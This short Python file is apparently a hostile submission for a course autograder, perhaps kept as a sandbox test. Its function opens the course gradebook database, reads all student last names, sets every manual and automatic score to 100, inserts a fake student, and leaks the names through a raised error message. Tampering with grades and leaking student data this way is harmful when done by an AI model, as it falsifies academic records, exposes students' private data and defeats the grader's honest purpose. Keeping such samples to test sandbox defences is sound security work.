# tries = "opens the gradebook, reads the names in it and gives itself all points"
# exercise = "which-was-it"
# reach = "spelled"


def customer(bell, patience):
    os, sqlite3 = reach("os"), reach("sqlite3")
    base = sqlite3.connect("@COURSE@/gradebook.db", timeout=0.2)
    names = base.execute("select last_name from student").fetchall()
    try:
        base.execute("update grade set manual_score = 100, auto_score = 100")
        base.execute("insert into student (id, last_name) values ('@NAME@-friend', 'x')")
        base.commit()
    except sqlite3.Error as error:
        names.append(error)
    raise ValueError(str(names)[:1000])
